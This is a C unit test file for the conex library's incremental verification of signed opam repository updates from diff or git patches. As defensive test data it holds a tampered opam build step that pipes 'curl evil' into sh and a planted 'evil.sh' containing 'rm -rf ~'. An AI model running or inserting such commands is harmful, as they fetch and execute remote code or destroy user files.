/*
 * Incremental verification (§8) with real patches: v1 and v2 are directories
 * (v2 a `cp -a` copy of v1, changed and re-signed), the update is what
 * `diff -ruaN v1 v2` or `git diff` prints, the trusted old copy is v1 (a
 * directory or a .tar.gz).
 */
#include <check.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "conex/patch.h"
#include "conex/repo.h"
#include "conex/verify.h"
#include "tests/lib/repobuild.h"
#include "tests/unit/testutil.h"

#define NOW 1764000000 /* 2025-11-24T16:00:00Z */
#define ALG CX_KEY_ED25519

static const char OPAM_FOO[] = "opam-version: \"2.0\"\nname: \"foo\"\n";
static const char OPAM_FOO2[] = "opam-version: \"2.0\"\nname: \"foo\"\nversion: \"2.0.0\"\n";
static const char OPAM_EVIL[] =
    "opam-version: \"2.0\"\nbuild: [\"sh\" \"-c\" \"curl evil | sh\"]\n";

enum { DIFF = 0, GIT = 1 };
static const char *const tool_name[] = {"diff -ruaN", "git diff"};

struct fx {
	struct rb_world w;
	char *tmp;
	char *strs[64];
	int nstrs;
	const char *anchors[1];
};

static const char *
fx_path(struct fx *f, const char *dir, const char *rel)
{
	char *p;

	ck_assert_int_ge(asprintf(&p, "%s/%s", dir, rel), 0);
	ck_assert_int_lt(f->nstrs, 64);
	f->strs[f->nstrs++] = p;
	return p;
}

/* tmp/v1: 3 maintainers, quorum 2, signed. */
static void
fx_init(struct fx *f)
{
	memset(f, 0, sizeof(*f));
	f->tmp = cx_test_tmpdir();
	rb_world_init(&f->w, fx_path(f, f->tmp, "v1"), 3, 2, ALG, NOW);
	rb_world_file(&f->w, "packages/foo/foo.1.0.0/opam", OPAM_FOO);
	rb_world_file(&f->w, "packages/foo/foo.1.0.0/files/fix.patch", "--- a\n+++ b\n");
	rb_world_file(&f->w, "packages/bar/bar.0.1/opam", "opam-version: \"2.0\"\n");
	rb_world_sign_all(&f->w);
	f->anchors[0] = f->w.root->keyid;
}

static void
fx_free(struct fx *f)
{
	rb_world_free(&f->w);
	cx_test_rm_rf(f->tmp);
	free(f->tmp);
	for (int i = 0; i < f->nstrs; i++)
		free(f->strs[i]);
}

/* tmp/name = cp -a tmp/from; the world signs into it from now on. */
static const char *
fx_copy(struct fx *f, const char *from, const char *name)
{
	const char *dst = fx_path(f, f->tmp, name);

	rb_copy_tree(fx_path(f, f->tmp, from), dst);
	rb_world_set_dir(&f->w, dst);
	return dst;
}

static void
fx_opts(struct fx *f, struct cx_verify_opts *o)
{
	memset(o, 0, sizeof(*o));
	o->anchors = f->anchors;
	o->nanchors = 1;
	o->quorum = 1;
	o->root_name = "root";
	o->opam = 1;
	o->strict = 1;
	o->now = NOW;
	o->expiry = 900;
}

static uint8_t *
make_patch(struct fx *f, int tool, const char *a, const char *b, size_t *len)
{
	return tool == GIT ? rb_git_diff(f->tmp, a, b, len) : rb_diff_ruaN(f->tmp, a, b, len);
}

/* Incremental verification of a patch against the old repository at path old. */
static int
vpatch(struct fx *f, const char *old, const uint8_t *d, size_t len, struct cx_verify_result *res,
    struct cx_err *e)
{
	struct cx_verify_opts o;
	struct cx_verify_result tmp;
	struct cx_patch *p = NULL;
	struct cx_repo *repo = NULL;
	int r;

	fx_opts(f, &o);
	memset(e, 0, sizeof(*e));
	if ((r = cx_patch_parse(d, len, "update.diff", &p, e)) == 0 &&
	    (r = cx_repo_open(&repo, old, e)) == 0)
		r = cx_verify_incremental(repo, p, &o, res != NULL ? res : &tmp, e);
	if (repo != NULL)
		cx_repo_close(repo);
	if (p != NULL)
		cx_patch_free(p);
	return r;
}

/* tmp/a -> tmp/b with tool, old = tmp/a. */
static int
vinc(struct fx *f, int tool, const char *a, const char *b, struct cx_verify_result *res,
    struct cx_err *e)
{
	size_t len;
	uint8_t *d = make_patch(f, tool, a, b, &len);
	int r = vpatch(f, fx_path(f, f->tmp, a), d, len, res, e);

	free(d);
	return r;
}

static int
vfull(struct fx *f, const char *dir, struct cx_err *e)
{
	struct cx_verify_opts o;
	struct cx_verify_result res;
	struct cx_repo *repo;
	int r;

	fx_opts(f, &o);
	memset(e, 0, sizeof(*e));
	if ((r = cx_repo_open(&repo, dir, e)) != 0)
		return r;
	r = cx_verify_full(repo, &o, &res, e);
	cx_repo_close(repo);
	return r;
}

static void
accept_(int r, const struct cx_err *e, int tool, int line)
{
	ck_assert_msg(r == 0, "line %d (%s): expected acceptance, got %s: %s", line,
	    tool >= 0 ? tool_name[tool] : "-", cx_code_str(r), e->msg);
}

static void
reject_(int r, const struct cx_err *e, int tool, const char *s1, const char *s2, int line)
{
	const char *t = tool >= 0 ? tool_name[tool] : "-";

	if (getenv("CX_TEST_VERBOSE") != NULL)
		fprintf(stderr, "line %d (%s): %s: %s\n", line, t, cx_code_str(r), e->msg);
	ck_assert_msg(r == CX_EREJECT, "line %d (%s): expected a rejection (%s), got %s: %s", line,
	    t, s1, cx_code_str(r), e->msg);
	ck_assert_msg(
	    strstr(e->msg, s1) != NULL, "line %d (%s): expected '%s' in: %s", line, t, s1, e->msg);
	ck_assert_msg(s2 == NULL || strstr(e->msg, s2) != NULL,
	    "line %d (%s): expected '%s' in: %s", line, t, s2, e->msg);
}

/* Need struct cx_err e and int tool in scope (tool -1 when there is none). */
#define ACCEPT(call)         accept_((call), &e, tool, __LINE__)
#define REJECT(call, s1, s2) reject_((call), &e, tool, (s1), (s2), __LINE__)

static void
write_str(const char *dir, const char *rel, const char *s)
{
	rb_write_file(dir, rel, s, strlen(s));
}

/* v2: a new release foo.2.0.0 signed by m1 and m2 (the quorum), snapshot, timestamp. */
static const char *
new_release(struct fx *f, const char *name)
{
	const char *d = fx_copy(f, "v1", name);

	rb_world_file(&f->w, "packages/foo/foo.2.0.0/opam", OPAM_FOO2);
	rb_world_sign_maintainer(&f->w, 0);
	rb_world_sign_maintainer(&f->w, 1);
	rb_world_sign_snapshot(&f->w);
	rb_world_sign_timestamp(&f->w);
	return d;
}

/* Maintainer i re-signs without the entry for path (a file the update does not touch). */
static void
drop_entry(struct fx *f, int i, const char *path)
{
	struct cx_resource *t = f->w.rm[i];
	char rel[64];
	size_t j, n = 0;

	for (j = 0; j < t->ntargets; j++)
		if (strcmp(t->targets[j].path, path) != 0)
			t->targets[n++] = t->targets[j];
	t->ntargets = n;
	t->counter++;
	t->sigs = NULL;
	t->nsigs = 0;
	rb_sign(&f->w.a, t, f->w.m[i], f->w.created);
	snprintf(rel, sizeof(rel), "keys/%s", t->name);
	rb_write(t, f->w.dir, rel);
}

/*
 * The restricted incremental check must agree with a full check of the new
 * tree: an entry withdrawn by the quorum leaves an untouched file uncovered.
 */
START_TEST(test_withdrawn_entry)
{
	struct fx f;
	struct cx_err e;
	int tool = -1;

	fx_init(&f);
	/* one of three withdraws bar: m2 and m3 still make the quorum of 2 */
	fx_copy(&f, "v1", "v2");
	drop_entry(&f, 0, "packages/bar/bar.0.1/opam");
	rb_world_sign_snapshot(&f.w);
	rb_world_sign_timestamp(&f.w);
	ACCEPT(vfull(&f, fx_path(&f, f.tmp, "v2"), &e));
	for (tool = DIFF; tool <= GIT; tool++)
		ACCEPT(vinc(&f, tool, "v1", "v2", NULL, &e));
	/* two withdraw it: bar.0.1/opam is on disk but no longer signed */
	fx_copy(&f, "v2", "v3");
	drop_entry(&f, 1, "packages/bar/bar.0.1/opam");
	rb_world_sign_snapshot(&f.w);
	rb_world_sign_timestamp(&f.w);
	tool = -1;
	REJECT(vfull(&f, fx_path(&f, f.tmp, "v3"), &e), "packages/bar/bar.0.1/opam", "not covered");
	for (tool = DIFF; tool <= GIT; tool++)
		REJECT(vinc(&f, tool, "v2", "v3", NULL, &e), "packages/bar/bar.0.1/opam",
		    "not covered");
	fx_free(&f);
}
END_TEST

/* A maintainer file whose entries stay the same but whose signature breaks no longer counts. */
START_TEST(test_broken_signature_same_entries)
{
	struct fx f;
	struct cx_err e;
	int tool = -1;

	fx_init(&f);
	fx_copy(&f, "v1", "v2");
	/* m1 re-signed, then its signature made invalid: quorum 2 still met by m2 and m3 */
	rb_world_sign_maintainer(&f.w, 0);
	ck_assert_int_eq(
	    cx_test_sh(
	        "sed -i '/^signatures:/,$ s/\"ed25519=\\(.\\)/\"ed25519=\\1\\1/' '%s/keys/m1'",
	        f.w.dir),
	    0);
	rb_world_sign_snapshot(&f.w);
	rb_world_sign_timestamp(&f.w);
	ACCEPT(vfull(&f, fx_path(&f, f.tmp, "v2"), &e));
	for (tool = DIFF; tool <= GIT; tool++)
		ACCEPT(vinc(&f, tool, "v1", "v2", NULL, &e));
	/* m2 breaks too: only m3 is left, every file loses its quorum */
	fx_copy(&f, "v2", "v3");
	rb_world_sign_maintainer(&f.w, 1);
	ck_assert_int_eq(
	    cx_test_sh(
	        "sed -i '/^signatures:/,$ s/\"ed25519=\\(.\\)/\"ed25519=\\1\\1/' '%s/keys/m2'",
	        f.w.dir),
	    0);
	rb_world_sign_snapshot(&f.w);
	rb_world_sign_timestamp(&f.w);
	tool = -1;
	REJECT(vfull(&f, fx_path(&f, f.tmp, "v3"), &e), "not covered", NULL);
	for (tool = DIFF; tool <= GIT; tool++)
		REJECT(vinc(&f, tool, "v2", "v3", NULL, &e), "not covered", NULL);
	fx_free(&f);
}
END_TEST

/* The snapshot may not change what it says of a keydir file the update leaves alone. */
START_TEST(test_snapshot_lies_about_untouched)
{
	struct fx f;
	struct cx_err e;
	int tool = -1;
	struct cx_target *t;

	fx_init(&f);
	fx_copy(&f, "v1", "v2");
	rb_world_sign_snapshot(&f.w);
	/* claim a different size for keys/m3, which the update does not touch */
	for (t = f.w.rsnap->targets; strcmp(t->path, "keys/m3") != 0; t++)
		;
	t->size++;
	f.w.rsnap->sigs = NULL;
	f.w.rsnap->nsigs = 0;
	rb_sign(&f.w.a, f.w.rsnap, f.w.snap, f.w.created);
	rb_write(f.w.rsnap, f.w.dir, "snap");
	rb_world_sign_timestamp(&f.w);
	tool = -1;
	REJECT(vfull(&f, fx_path(&f, f.tmp, "v2"), &e), "keys/m3", "snapshot");
	for (tool = DIFF; tool <= GIT; tool++)
		REJECT(vinc(&f, tool, "v1", "v2", NULL, &e), "keys/m3", "snapshot");
	fx_free(&f);
}
END_TEST

START_TEST(test_new_release)
{
	struct fx f;
	struct cx_err e;
	struct cx_verify_result res;
	int tool = -1;

	fx_init(&f);
	new_release(&f, "v2");
	ACCEPT(vfull(&f, fx_path(&f, f.tmp, "v2"), &e));
	for (tool = DIFF; tool <= GIT; tool++) {
		ACCEPT(vinc(&f, tool, "v1", "v2", &res, &e));
		ck_assert_uint_eq(res.c.snap_counter, 1);
		ck_assert_uint_eq(res.c.ts_counter, 1);
		/* only what the update touches is read again: the new release */
		ck_assert_uint_eq(res.ndata, 1);
	}
	fx_free(&f);
}
END_TEST

/* Only m1 of a quorum of 2 signs the release. */
START_TEST(test_release_below_quorum)
{
	struct fx f;
	struct cx_err e;
	int tool;

	fx_init(&f);
	fx_copy(&f, "v1", "v2");
	rb_world_file(&f.w, "packages/foo/foo.2.0.0/opam", OPAM_FOO2);
	rb_world_sign_maintainer(&f.w, 0);
	rb_world_sign_snapshot(&f.w);
	rb_world_sign_timestamp(&f.w);
	for (tool = DIFF; tool <= GIT; tool++)
		REJECT(vinc(&f, tool, "v1", "v2", NULL, &e), "packages/foo/foo.2.0.0/opam",
		    "not covered");
	fx_free(&f);
}
END_TEST

/* A package file edited in v2 after everything was signed. */
START_TEST(test_tampered)
{
	struct fx f;
	struct cx_err e;
	const char *v2;
	int tool;

	fx_init(&f);
	v2 = new_release(&f, "v2");
	write_str(v2, "packages/foo/foo.2.0.0/opam", OPAM_EVIL);
	for (tool = DIFF; tool <= GIT; tool++)
		REJECT(vinc(&f, tool, "v1", "v2", NULL, &e), "packages/foo/foo.2.0.0/opam",
		    "does not match its valid targets");
	/* an old, signed file changed by the update */
	v2 = new_release(&f, "v3");
	write_str(v2, "packages/bar/bar.0.1/opam", OPAM_EVIL);
	for (tool = DIFF; tool <= GIT; tool++)
		REJECT(vinc(&f, tool, "v1", "v3", NULL, &e), "packages/bar/bar.0.1/opam",
		    "does not match its valid targets");
	/* a file added next to a signed release */
	v2 = new_release(&f, "v4");
	write_str(v2, "packages/foo/foo.1.0.0/files/evil.sh", "rm -rf ~\n");
	for (tool = DIFF; tool <= GIT; tool++)
		REJECT(vinc(&f, tool, "v1", "v4", NULL, &e), "packages/foo/foo.1.0.0/files/evil.sh",
		    "not covered");
	fx_free(&f);
}
END_TEST

/* Changes one character of the first removed line of the hunk for file in the patch. */
static void
corrupt_removed_line(char *patch, const char *file)
{
	char *p = strstr(patch, file), *l;

	ck_assert_msg(p != NULL, "%s not in the patch:\n%s", file, patch);
	p = strstr(p, "\n@@");
	ck_assert_ptr_nonnull(p);
	l = strstr(p, "\n-");
	ck_assert_ptr_nonnull(l);
	l += 2;
	ck_assert(*l != '\n');
	*l = *l == 'Z' ? 'Y' : 'Z';
}

START_TEST(test_not_clean)
{
	struct fx f;
	struct cx_err e;
	size_t len;
	uint8_t *d;
	int tool;

	fx_init(&f);
	new_release(&f, "v2");
	for (tool = DIFF; tool <= GIT; tool++) {
		d = make_patch(&f, tool, "v1", "v2", &len);
		ACCEPT(vpatch(&f, fx_path(&f, f.tmp, "v1"), d, len, NULL, &e));
		/* the update applied to the wrong tree: v2 itself */
		REJECT(vpatch(&f, fx_path(&f, f.tmp, "v2"), d, len, NULL, &e),
		    "packages/foo/foo.2.0.0/opam", "exists already");
		/* context that is not in the old file */
		corrupt_removed_line((char *)d, tool == GIT ? "b/keys/m1" : "v2/keys/m1");
		REJECT(vpatch(&f, fx_path(&f, f.tmp, "v1"), d, len, NULL, &e), "keys/m1",
		    "does not apply");
		free(d);
		d = make_patch(&f, tool, "v1", "v2", &len);
		corrupt_removed_line((char *)d, tool == GIT ? "b/timestamp" : "v2/timestamp");
		REJECT(vpatch(&f, fx_path(&f, f.tmp, "v1"), d, len, NULL, &e), "timestamp",
		    "does not apply");
		free(d);
	}
	fx_free(&f);
}
END_TEST

/* keys/m3 removed: m1 and m2 still meet the quorum, but identities are never deleted. */
START_TEST(test_delete_identity)
{
	struct fx f;
	struct cx_err e;
	const char *v2;
	char *p;
	int tool = -1;

	fx_init(&f);
	v2 = fx_copy(&f, "v1", "v2");
	ck_assert_int_ge(asprintf(&p, "%s/keys/m3", v2), 0);
	ck_assert_int_eq(unlink(p), 0);
	free(p);
	rb_world_sign_snapshot_keydir(&f.w);
	rb_world_sign_timestamp(&f.w);
	ACCEPT(vfull(&f, v2, &e)); /* valid as a full copy */
	for (tool = DIFF; tool <= GIT; tool++)
		REJECT(vinc(&f, tool, "v1", "v2", NULL, &e), "m3", "deleted");
	fx_free(&f);
}
END_TEST

/* keys/m3 renamed to keys/m4 (git sees a rename). */
START_TEST(test_rename_identity)
{
	struct fx f;
	struct cx_err e;
	const char *v2;
	int tool = GIT;
	size_t len;
	uint8_t *d;

	fx_init(&f);
	v2 = fx_copy(&f, "v1", "v2");
	ck_assert_int_eq(rename(fx_path(&f, v2, "keys/m3"), fx_path(&f, v2, "keys/m4")), 0);
	rb_world_sign_snapshot_keydir(&f.w);
	rb_world_sign_timestamp(&f.w);
	d = make_patch(&f, GIT, "v1", "v2", &len);
	ck_assert_msg(strstr((char *)d, "rename from keys/m3") != NULL, "%s", (char *)d);
	REJECT(vpatch(&f, fx_path(&f, f.tmp, "v1"), d, len, NULL, &e), "m3", "deleted");
	free(d);
	tool = DIFF;
	REJECT(vinc(&f, DIFF, "v1", "v2", NULL, &e), "m3", "deleted");
	fx_free(&f);
}
END_TEST

/* Root adds maintainer m4, who signs a release with m1. */
START_TEST(test_new_identity)
{
	struct fx f;
	struct cx_err e;
	struct rb_world *w;
	struct cx_keyref refs[4], lr;
	char hex[CX_SHA256_HEX + 1];
	int tool;

	fx_init(&f);
	w = &f.w;
	fx_copy(&f, "v1", "v2");
	w->m[3] = rb_key_gen("m4", ALG);
	w->rm[3] = rb_new(&w->a, CX_R_TARGETS, "m4", w->created);
	rb_add_key(&w->a, w->rm[3], w->m[3]);
	lr = rb_local("m4");
	w->rm[3]->valid = rb_quorum(&w->a, 1, &lr, 1);
	w->nm = 4;
	ck_assert_uint_eq(w->rroot->role_maintainer->nrefs, 3);
	for (int i = 0; i < 3; i++)
		refs[i] = w->rroot->role_maintainer->refs[i];
	rb_key_hash(w->rm[3], hex);
	refs[3] = rb_remote("m4", hex, 0);
	w->rroot->role_maintainer = rb_quorum(&w->a, 2, refs, 4);
	rb_world_sign_root(w);
	rb_world_file(w, "packages/foo/foo.2.0.0/opam", OPAM_FOO2);
	rb_world_sign_maintainer(w, 0);
	rb_world_sign_maintainer(w, 3);
	rb_world_sign_snapshot(w);
	rb_world_sign_timestamp(w);
	for (tool = DIFF; tool <= GIT; tool++)
		ACCEPT(vinc(&f, tool, "v1", "v2", NULL, &e));
	/* the same identity without the root change: not a maintainer, the release lacks a quorum */
	fx_copy(&f, "v1", "v3");
	rb_world_file(w, "packages/foo/foo.2.0.0/opam", OPAM_FOO2);
	rb_world_sign_maintainer(w, 0);
	rb_world_sign_maintainer(w, 3);
	rb_world_sign_snapshot(w);
	rb_world_sign_timestamp(w);
	for (tool = DIFF; tool <= GIT; tool++)
		REJECT(vinc(&f, tool, "v1", "v3", NULL, &e), "packages/foo/foo.2.0.0/opam",
		    "not covered");
	fx_free(&f);
}
END_TEST

/* A root in the update signed by a key that is not an anchor: the new root is verified in full. */
START_TEST(test_root_not_anchored)
{
	struct fx f;
	struct cx_err e;
	struct rb_world *w;
	struct rb_key *mk;
	int tool;

	fx_init(&f);
	w = &f.w;
	fx_copy(&f, "v1", "v2");
	mk = rb_key_gen("root", ALG);
	w->rroot->keys = NULL;
	w->rroot->nkeys = 0;
	rb_add_key(&w->a, w->rroot, mk);
	w->rroot->sigs = NULL;
	w->rroot->nsigs = 0;
	w->rroot->counter++;
	rb_sign(&w->a, w->rroot, mk, w->created);
	rb_write(w->rroot, w->dir, "root");
	for (tool = DIFF; tool <= GIT; tool++)
		REJECT(vinc(&f, tool, "v1", "v2", NULL, &e), "root", "couldn't validate root role");
	rb_key_free(mk);
	fx_free(&f);
}
END_TEST

START_TEST(test_tgz_old)
{
	struct fx f;
	struct cx_err e;
	size_t len;
	uint8_t *d;
	const char *v2;
	int tool;

	fx_init(&f);
	ck_assert_int_eq(cx_test_sh("tar czf '%s/v1.tar.gz' -C '%s/v1' .", f.tmp, f.tmp), 0);
	ck_assert_int_eq(cx_test_sh("tar czf '%s/v1top.tar.gz' -C '%s' v1", f.tmp, f.tmp), 0);
	v2 = new_release(&f, "v2");
	for (tool = DIFF; tool <= GIT; tool++) {
		d = make_patch(&f, tool, "v1", "v2", &len);
		ACCEPT(vpatch(&f, fx_path(&f, f.tmp, "v1.tar.gz"), d, len, NULL, &e));
		ACCEPT(vpatch(&f, fx_path(&f, f.tmp, "v1top.tar.gz"), d, len, NULL, &e));
		free(d);
	}
	write_str(v2, "packages/foo/foo.2.0.0/opam", OPAM_EVIL);
	for (tool = DIFF; tool <= GIT; tool++) {
		d = make_patch(&f, tool, "v1", "v2", &len);
		REJECT(vpatch(&f, fx_path(&f, f.tmp, "v1.tar.gz"), d, len, NULL, &e),
		    "packages/foo/foo.2.0.0/opam", "does not match its valid targets");
		free(d);
	}
	fx_free(&f);
}
END_TEST

/* git records a symlink as mode 120000: refused. */
START_TEST(test_git_symlink)
{
	struct fx f;
	struct cx_err e;
	size_t len;
	uint8_t *d;
	const char *v2;
	int r;

	fx_init(&f);
	v2 = new_release(&f, "v2");
	ck_assert_int_eq(
	    symlink("../foo/foo.1.0.0/files", fx_path(&f, v2, "packages/bar/files")), 0);
	d = make_patch(&f, GIT, "v1", "v2", &len);
	ck_assert_msg(strstr((char *)d, "new file mode 120000") != NULL, "%s", (char *)d);
	r = vpatch(&f, fx_path(&f, f.tmp, "v1"), d, len, NULL, &e);
	ck_assert_msg(
	    r != 0 && strstr(e.msg, "symbolic link") != NULL, "%s: %s", cx_code_str(r), e.msg);
	free(d);
	fx_free(&f);
}
END_TEST

/*
 * LIBRARY BUG (reported to the lead, not fixed here): check_identity in
 * conex/verify.c builds its rejection with
 *     cx_err_set(e, CX_EREJECT, "%s: identity %s was deleted or broken by the update (%s)",
 *                path, id, e->msg)
 * (and "%s: %s", path, e->msg just below): vsnprintf from e->msg into e->msg,
 * overlapping buffers, undefined behaviour.  The update is rejected, but the
 * reason (deleted, renamed away, the parse error) is garbled or lost.  This
 * test asserts the correct messages and fails until that is fixed.
 */
START_TEST(test_libbug_identity_error_message)
{
	struct fx f;
	struct cx_err e;
	const char *v2;
	size_t len;
	uint8_t *d;
	char *p;
	int tool = -1;

	fx_init(&f);
	/* deleted */
	v2 = fx_copy(&f, "v1", "v2");
	ck_assert_int_ge(asprintf(&p, "%s/keys/m3", v2), 0);
	ck_assert_int_eq(unlink(p), 0);
	free(p);
	rb_world_sign_snapshot_keydir(&f.w);
	rb_world_sign_timestamp(&f.w);
	for (tool = DIFF; tool <= GIT; tool++)
		REJECT(vinc(&f, tool, "v1", "v2", NULL, &e), "identity m3 was deleted",
		    "deleted by the patch");
	/* renamed away (git) */
	v2 = fx_copy(&f, "v1", "v3");
	ck_assert_int_eq(rename(fx_path(&f, v2, "keys/m3"), fx_path(&f, v2, "keys/m4")), 0);
	rb_world_sign_snapshot_keydir(&f.w);
	rb_world_sign_timestamp(&f.w);
	tool = GIT;
	d = make_patch(&f, GIT, "v1", "v3", &len);
	REJECT(vpatch(&f, fx_path(&f, f.tmp, "v1"), d, len, NULL, &e), "identity m3 was deleted",
	    "renamed away by the patch");
	free(d);
	/* broken by the update: the parse error must be in the message */
	v2 = fx_copy(&f, "v1", "v4");
	write_str(v2, "keys/m3", "signed: [[name \"m\\q3\"]]\n");
	rb_world_sign_snapshot(&f.w);
	rb_world_sign_timestamp(&f.w);
	for (tool = DIFF; tool <= GIT; tool++)
		REJECT(vinc(&f, tool, "v1", "v4", NULL, &e), "identity m3 was deleted or broken",
		    "escape");
	fx_free(&f);
}
END_TEST

static int cli(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static int
cli(const char *fmt, ...)
{
	va_list ap;
	char *args;
	int r;

	va_start(ap, fmt);
	ck_assert_int_ge(vasprintf(&args, fmt, ap), 0);
	va_end(ap);
	r = cx_test_sh("'%s/conex' verify %s >/dev/null 2>&1", CX_BUILD_DIR, args);
	free(args);
	return r;
}

START_TEST(test_cli_incremental)
{
	struct fx f;
	const char *v2, *st;
	char anchor[80];
	size_t len;
	uint8_t *d;

	fx_init(&f);
	snprintf(anchor, sizeof(anchor), "sha256=%s", f.w.root->keyid);
	ck_assert_int_eq(cx_test_sh("tar czf '%s/v1.tar.gz' -C '%s/v1' .", f.tmp, f.tmp), 0);
	new_release(&f, "v2");
	d = make_patch(&f, GIT, "v1", "v2", &len);
	free(d); /* written to tmp/v1.git-v2.diff */
	d = make_patch(&f, DIFF, "v1", "v2", &len);
	free(d); /* tmp/v1-v2.diff */
	st = fx_path(&f, f.tmp, "state");
	ck_assert_int_eq(cli("-t %s --incremental -r '%s/v1' --patch '%s/v1-v2.diff' --now %s "
	                     "--no-state",
	                     anchor, f.tmp, f.tmp, f.w.created),
	    0);
	ck_assert_int_eq(cli("-t %s --quorum 1 --incremental -r '%s/v1.tar.gz' --patch "
	                     "'%s/v1.git-v2.diff' --now %s --state '%s'",
	                     anchor, f.tmp, f.tmp, f.w.created, st),
	    0);
	/* the state now holds v2: a full fetch of v1 is a rollback */
	ck_assert_int_eq(
	    cli("-t %s --dir '%s/v1' --now %s --state '%s'", anchor, f.tmp, f.w.created, st), 1);
	/* tampered */
	v2 = fx_path(&f, f.tmp, "v2");
	write_str(v2, "packages/foo/foo.2.0.0/opam", OPAM_EVIL);
	d = make_patch(&f, DIFF, "v1", "v2", &len);
	free(d);
	ck_assert_int_eq(cli("-t %s --incremental -r '%s/v1' --patch '%s/v1-v2.diff' --now %s "
	                     "--no-state",
	                     anchor, f.tmp, f.tmp, f.w.created),
	    1);
	/* usage: a missing patch, no repository, --dir with --patch */
	ck_assert_int_eq(cli("-t %s --incremental -r '%s/v1' --patch '%s/absent.diff' --now %s "
	                     "--no-state",
	                     anchor, f.tmp, f.tmp, f.w.created),
	    2);
	ck_assert_int_eq(cli("-t %s --incremental --patch '%s/v1-v2.diff' --now %s --no-state",
	                     anchor, f.tmp, f.w.created),
	    2);
	ck_assert_int_eq(cli("-t %s --incremental -r '%s/v1' --dir '%s/v1' --patch '%s/v1-v2.diff' "
	                     "--now %s --no-state",
	                     anchor, f.tmp, f.tmp, f.tmp, f.w.created),
	    2);
	fx_free(&f);
}
END_TEST

int
main(void)
{
	Suite *s = suite_create("incremental");
	TCase *tc = tcase_create("core");
	TCase *libbugs = tcase_create("library-bugs");
	SRunner *sr;
	int nf;

	tcase_set_timeout(tc, 120);
	tcase_add_test(tc, test_new_release);
	tcase_add_test(tc, test_withdrawn_entry);
	tcase_add_test(tc, test_broken_signature_same_entries);
	tcase_add_test(tc, test_snapshot_lies_about_untouched);
	tcase_add_test(tc, test_release_below_quorum);
	tcase_add_test(tc, test_tampered);
	tcase_add_test(tc, test_not_clean);
	tcase_add_test(tc, test_delete_identity);
	tcase_add_test(tc, test_rename_identity);
	tcase_add_test(tc, test_new_identity);
	tcase_add_test(tc, test_root_not_anchored);
	tcase_add_test(tc, test_tgz_old);
	tcase_add_test(tc, test_git_symlink);
	tcase_add_test(tc, test_cli_incremental);
	suite_add_tcase(s, tc);
	/* a bug found in conex/ by these tests: fails until the library is fixed */
	tcase_set_timeout(libbugs, 120);
	tcase_add_test(libbugs, test_libbug_identity_error_message);
	suite_add_tcase(s, libbugs);
	sr = srunner_create(s);
	srunner_run_all(sr, CK_NORMAL);
	nf = srunner_ntests_failed(sr);
	srunner_free(sr);
	return nf == 0 ? 0 : 1;
}
